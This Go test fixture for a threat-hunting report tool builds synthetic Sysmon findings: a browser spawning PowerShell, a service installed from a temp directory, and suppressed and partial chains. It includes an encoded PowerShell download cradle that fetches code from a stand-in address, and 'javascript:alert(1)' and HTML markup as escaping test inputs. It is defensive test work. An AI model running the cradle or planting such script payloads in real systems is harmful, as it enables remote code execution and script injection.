package reporttest

import (
	"strings"
	"time"

	"hunt/report"
)

const encoded = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBh" +
	"AGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADcALwBhACcAKQA="

func richFindings(r *report.Report) {
	const file = "fin-ws07/Microsoft-Windows-Sysmon%4Operational.evtx"
	download := "http://198.51.100.7/docs/Invoice_March2026.zip?<b>x</b>"
	r.Findings = []report.Finding{
		{
			ID: "F-3f9a1c20b7e4", Rule: report.RuleRef{ID: "t1204-001-browser-child-lineage",
				Name: "Browser child with network or cradle", Severity: "critical"}, Version: "1.2",
			Host: "fin-ws07.corp.example", User: `CORP\alice`, Status: "finding", Verdict: "linked chain",
			Confidence: "high",
			Reasons: []string{
				"lineage: the second process is a child of the first by ProcessGuid",
				"provenance: the file carries the mark of the web, ZoneId=3",
				"rarity: no other of the 4 hosts shows this child hash under a browser",
			},
			Start: At(0), End: At(4 * time.Second),
			Title: "chrome.exe started powershell.exe, which fetched code from 198.51.100.7",
			What: "A browser started a script interpreter whose child reached the network. Users do not start " +
				"PowerShell from a browser; links do.",
			Techniques: append(maliciousLink,
				report.Technique{ID: "T1059.001", Name: "PowerShell", TacticID: "TA0002", Tactic: "Execution"}),
			JoinKeys: []report.KeyValue{{Key: "host.id", Value: "fin-ws07.corp.example"},
				{Key: "process.entity_id", Value: "{b3c1d2e0-71f2-65ee-0b00-000000001d00}"}},
			FalsePositives: []string{
				"Native messaging hosts of browser extensions start through cmd.exe; look for chrome-extension:// " +
					"and the pipe names", "A local development server started from a link",
			},
			References: []string{"https://attack.mitre.org/techniques/T1204/001", "javascript:alert(1)"},
			Labels:     []string{"within 1 s of the limit on the other clock"},
			Note:       "Alice confirms she clicked the link in the mail of 14:02.\nMail exported as E-17.",
			Evidence: []report.Evidence{
				{Stage: 0, Label: "e1", Time: At(0), UTCTime: At(-13 * time.Millisecond), Channel: sysmon,
					EventCode: "1", Host: "fin-ws07.corp.example", User: `CORP\alice`,
					Message: "chrome.exe started powershell.exe: " + HostileCommand,
					Facts: []report.KeyValue{
						{Key: "process.executable", Value: `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`},
						{Key: "process.command_line", Value: HostileCommand},
						{Key: "process.parent.executable",
							Value: `C:\Program Files\Google\Chrome\Application\chrome.exe`},
						{Key: "process.pid", Value: "7716"},
						{Key: "process.hash.sha256", Value: Hash("powershell")},
					},
					Condition: `process where event.type == "start" ` +
						`and process.parent.name in~ ("chrome.exe", "msedge.exe")`,
					Ref: ref(file, 17),
					Also: []report.Ref{{File: "fin-ws07/Security.evtx", SHA256: Hash("sec"), Chunk: 3,
						Offset: 200_704, HeaderRecordID: 9, EventRecordID: 88_121, PayloadSHA256: Hash("twin"),
						Why: "twin", Channel: "Security", EventCode: "4688"}},
					Document: event("event.code", "1", "process.name", "powershell.exe", "process.command_line",
						HostileCommand, "process.pid", 7716, "host.name", "FIN-WS07")},
				{Stage: 1, Label: "e2", Time: At(1900 * time.Millisecond), Channel: sysmon, EventCode: "3",
					Host: "fin-ws07.corp.example", User: `CORP\alice`,
					Message: "powershell.exe connected to 198.51.100.7:80",
					Facts: []report.KeyValue{{Key: "destination.ip", Value: "198.51.100.7"},
						{Key: "destination.port", Value: "80"}},
					Condition: `network where process.entity_id == e1.process.entity_id`, Ref: ref(file, 21),
					Document: event("event.code", "3", "destination.ip", "198.51.100.7")},
				{Stage: 2, Label: "e3", Time: At(4 * time.Second), Channel: sysmon, EventCode: "11",
					Host: "fin-ws07.corp.example", User: `CORP\alice`,
					Message:   "powershell.exe created " + HostileName,
					Facts:     []report.KeyValue{{Key: "file.path", Value: `C:\Users\alice\Downloads\` + HostileName}},
					Condition: `file where file.path : "*\\Downloads\\*.exe"`, Ref: ref(file, 25),
					Document: event("event.code", "11", "file.path", `C:\Users\alice\Downloads\`+HostileName)},
			},
			Candidates: []report.Candidate{
				{Evidence: report.Evidence{Stage: 0, Label: "e1", Time: At(-20 * time.Second), Channel: sysmon,
					EventCode: "1", Host: "fin-ws07.corp.example", User: `CORP\alice`,
					Message: "msedge.exe started cmd.exe",
					Facts:   []report.KeyValue{{Key: "process.command_line", Value: "cmd.exe /d /s /c native-host"}},
					Ref:     ref(file, 11), Document: event("event.code", "1")}}},
			Lineage: richTree(),
			Provenance: []report.Provenance{
				{Kind: "url", Time: At(-9 * time.Second), Text: download, Source: "Sysmon 15 Zone.Identifier",
					Ref: ptr(ref(file, 13))},
				{Kind: "file", Time: At(-8 * time.Second), Text: `C:\Users\alice\Downloads\Invoice_March2026.zip`,
					Source: "Sysmon 11", Ref: ptr(ref(file, 14))},
				{Kind: "execution", Time: At(0), Text: "powershell.exe, pid 7716", Source: "Sysmon 1",
					Ref: ptr(ref(file, 17))},
				{Kind: "network", Time: At(1900 * time.Millisecond), Text: "198.51.100.7:80/tcp", Source: "Sysmon 3",
					Ref: ptr(ref(file, 21))},
			},
			Decoded: []report.Decoded{{Kind: "base64 UTF-16LE", From: encoded,
				Text: "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')"}},
			Logon: &report.Logon{User: `CORP\alice`, SID: "S-1-5-21-1004336348-1177238915-682003330-1107",
				LogonID: "0x3e7a12", Type: "2 Interactive", SourceIP: "",
				Time: At(-6 * time.Hour), Ref: ptr(ref("fin-ws07/Security.evtx", 2))},
		},
		{
			ID: "F-88be02d1a953", Rule: report.RuleRef{ID: "service-install-from-temp",
				Name: "Service installed from a temporary directory", Severity: "high",
				Language: "Sigma", Author: "Ann Author (Firm, Inc.), @bob", Licence: "DRL-1.1"}, Version: "1.0",
			Host: "dc01.corp.example", User: `NT AUTHORITY\SYSTEM`, Status: "finding", Verdict: "single event",
			Confidence: "medium",
			Reasons: []string{"one event: nothing else on this host supports or contradicts it",
				"the image path is in C:\\Windows\\Temp"},
			Start: At(24 * time.Minute), End: At(24 * time.Minute),
			Title: `A service "upd" was installed with the image C:\Windows\Temp\u.exe`,
			What:  "Services are seldom installed from temporary directories.",
			Techniques: []report.Technique{{ID: "T1543.003", Name: "Windows Service", TacticID: "TA0003",
				Tactic: "Persistence"}},
			FalsePositives: []string{"Some installers and remote administration tools unpack their service there"},
			Evidence: []report.Evidence{{Stage: 0, Label: "", Time: At(24 * time.Minute), Channel: "System",
				EventCode: "7045", Host: "dc01.corp.example", User: `NT AUTHORITY\SYSTEM`,
				Message: "Service upd installed", Facts: []report.KeyValue{{Key: "service.name", Value: "upd"}},
				Ref: ref("dc01/System.evtx", 400), Document: event("event.code", "7045")}},
		},
		{
			ID: "F-51c7770de0b2", Rule: report.RuleRef{ID: "drop-then-run", Name: "Dropped by a browser, then run",
				Severity: "medium"}, Version: "1.1",
			Host: "hr-ws02", User: HostileUser, Status: "partial", Verdict: "incomplete chain", Confidence: "low",
			Reasons: []string{"stage 2 is missing: no Sysmon 1 on this host from 14:00 on, so a start could not " +
				"have been seen"},
			Start: At(38 * time.Minute), End: At(38 * time.Minute),
			Title: "msedge.exe dropped " + HostileName + "; no start of it was seen",
			What:  "A browser wrote an executable to a landing directory.", Techniques: maliciousLink,
			Evidence: []report.Evidence{
				{Stage: 0, Label: "drop", Time: At(38 * time.Minute), Channel: sysmon, EventCode: "11", Host: "hr-ws02",
					User: HostileUser, Message: "msedge.exe created " + HostileName,
					Facts: []report.KeyValue{{Key: "file.path", Value: `C:\Users\bob\Downloads\` + HostileName}},
					Ref:   carved(ref("hr-ws02/sysmon.evtx", 77)), Document: event("event.code", "11")},
				{Stage: 1, Label: "run", Missing: true, Condition: `process where event.type == "start"`},
			},
		},
		{
			ID: "F-0aa14be6617c", Rule: report.RuleRef{ID: "t1204-001-browser-child-lineage",
				Name: "Browser child with network or cradle", Severity: "low"}, Version: "1.2",
			Host: "fin-ws07.corp.example", User: `CORP\alice`, Status: "suppressed", Verdict: "single event",
			Confidence: "low",
			Suppression: &report.Suppression{ID: "chrome-updater",
				Reason: "Chrome's updater, signed by Google, in its own directory", Expires: "2027-01-01",
				Source: "built in"},
			Reasons: []string{"matches the whole shape of the exception"}, Start: At(-30 * time.Minute),
			End: At(-30 * time.Minute), Title: "chrome.exe started GoogleUpdate.exe",
			What: "A browser started a helper.", Techniques: maliciousLink,
			Evidence: []report.Evidence{{Stage: 0, Label: "e1", Time: At(-30 * time.Minute), Channel: "Security",
				EventCode: "4688", Host: "fin-ws07.corp.example", User: `CORP\alice`,
				Message: "chrome.exe started GoogleUpdate.exe",
				Facts:   []report.KeyValue{{Key: "process.command_line", Value: "GoogleUpdate.exe /ua"}},
				Condition: `process where event.type == "start" ` +
					`and process.parent.name in~ ("chrome.exe", "msedge.exe")`,
				Ref: ref("fin-ws07/Security.evtx", 60), Document: event("event.code", "4688")}},
		},
		{
			ID: "F-c2d9e4470f11", Rule: report.RuleRef{ID: "script-block-cradle",
				Name: "Download cradle in a script block", Severity: "high"}, Version: "1.0",
			Host: "fin-ws07.corp.example", User: `CORP\alice`, Status: "finding", Verdict: "single event",
			Confidence: "medium", Reasons: []string{"the script block names a raw address"},
			Start: At(2 * time.Second), End: At(2 * time.Second),
			Title: "Script block: IEX (New-Object Net.WebClient).DownloadString(…)",
			What:  "PowerShell logged the code that it ran.",
			Techniques: []report.Technique{{ID: "T1059.001", Name: "PowerShell", TacticID: "TA0002",
				Tactic: "Execution"}},
			Evidence: []report.Evidence{{Stage: 0, Label: "e1", Time: At(2 * time.Second), Channel: powershell,
				EventCode: "4104", Host: "fin-ws07.corp.example", User: `CORP\alice`,
				Message: "script block of 40,000 characters",
				Facts: []report.KeyValue{{Key: "powershell.file.script_block_text",
					Value: "$a = 'A'\r\n" + strings.Repeat("A", 40_000)}},
				Ref: ref("fin-ws07/PowerShell.evtx", 5), Document: event("event.code", "4104")}},
		},
	}
}

// sameTexts gives all findings of a rule what its file says.
func sameTexts(r *report.Report) {
	first := map[string]*report.Finding{}
	for i := range r.Findings {
		f := &r.Findings[i]
		if first[f.Rule.ID] == nil {
			first[f.Rule.ID] = f
		}
		f.FalsePositives, f.References = first[f.Rule.ID].FalsePositives, first[f.Rule.ID].References
	}
}

func ptr[T any](v T) *T { return &v }

func carved(r report.Ref) report.Ref {
	r.Carved = true
	return r
}

func richTree() *report.Process {
	return &report.Process{
		PID: 4012, Executable: `C:\Windows\explorer.exe`, User: `CORP\alice`, Inferred: true, Named: true,
		Basis: "named by the record of its child", Source: "named as parent",
		Children: []*report.Process{
			{PID: 6120, EntityID: "{b3c1d2e0-6fe1-65ee-0900-000000001d00}",
				Executable:  `C:\Program Files\Google\Chrome\Application\chrome.exe`,
				CommandLine: "chrome.exe --restore-last-session",
				User:        `CORP\alice`, Start: At(-2 * time.Hour), Source: "Sysmon 1", Omitted: 14,
				Children: []*report.Process{
					{PID: 7716, EntityID: "{b3c1d2e0-71f2-65ee-0b00-000000001d00}",
						Executable:  `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
						CommandLine: HostileCommand,
						User:        `CORP\alice`, Start: At(0), End: At(9 * time.Second), Evidence: true,
						Source: "Sysmon 1",
						Children: []*report.Process{{PID: 7800, Executable: `C:\Users\alice\Downloads\` + HostileName,
							Start: At(5 * time.Second), Source: "Security 4688", User: `CORP\alice`}}},
					{PID: 7000, Executable: `C:\Program Files\Google\Chrome\Application\chrome.exe`,
						CommandLine: "chrome.exe --type=renderer", Start: At(-time.Hour), Source: "Sysmon 1"},
				}},
			{PID: 5001, Executable: `C:\Windows\System32\notepad.exe`, Start: At(-3 * time.Hour), Source: "Sysmon 1",
				Children: []*report.Process{{PID: 5002, Executable: `C:\Windows\splwow64.exe`,
					Start: At(-3 * time.Hour), Source: "Sysmon 1"}}},
		},
	}
}
